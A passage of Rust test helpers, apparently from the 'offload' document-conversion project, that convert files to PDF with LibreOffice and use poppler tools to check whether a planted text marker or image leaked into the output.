        .arg(&path)
        .arg("-")
        .output()
        .expect("pdftotext (poppler-utils; scripts/test installs it)");
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// The sizes of the images in a PDF, from `pdfimages -list` (poppler-utils).
pub fn pdf_image_sizes(pdf: &[u8]) -> Vec<(u32, u32)> {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("doc.pdf");
    std::fs::write(&path, pdf).unwrap();
    let out = std::process::Command::new("pdfimages")
        .arg("-list")
        .arg(&path)
        .output()
        .expect("pdfimages (poppler-utils; scripts/test installs it)");
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .skip(2)
        .filter_map(|l| {
            let f: Vec<&str> = l.split_whitespace().collect();
            Some((f.get(3)?.parse().ok()?, f.get(4)?.parse().ok()?))
        })
        .collect()
}

/// What of `t` a converted PDF of `doc` shows (beyond the counter, checked separately).
pub fn leaks_in(pdf: &[u8], t: &Targets) -> Vec<&'static str> {
    let mut found = Vec::new();
    if pdf_text(pdf).contains(&t.marker) {
        found.push("the planted text");
    }
    if pdf_image_sizes(pdf).contains(&(PLANTED_WIDTH, PLANTED_HEIGHT)) {
        found.push("the planted image");
    }
    found
}

/// Converts `input` with a plain LibreOffice — no sandbox, no neutralising, but offload's
/// hardened profile — with `env` added to its environment: the control that shows a document
/// really leaks when only the profile stands in its way. `None` when it wrote no PDF.
pub fn convert_unprotected(input: &Path, env: &[(&str, &str)]) -> Option<Vec<u8>> {
    let dir = tempfile::tempdir().unwrap();
    offload::convert::libreoffice::write_profile(&dir.path().join("profile")).unwrap();
    let mut cmd = std::process::Command::new("soffice");
    cmd.arg(format!(
        "-env:UserInstallation=file://{}/profile",
        dir.path().display()
    ))
    .args(["--headless", "--convert-to", "pdf", "--outdir"])
    .arg(dir.path())
    .arg(input)
    .stdout(std::process::Stdio::null())
    .stderr(std::process::Stdio::null());
    for (k, v) in env {
        cmd.env(k, v);
    }
    cmd.status().unwrap();
    let pdf = dir
        .path()
        .join(input.file_stem().unwrap())
        .with_extension("pdf");
    std::fs::read(pdf).ok()
}
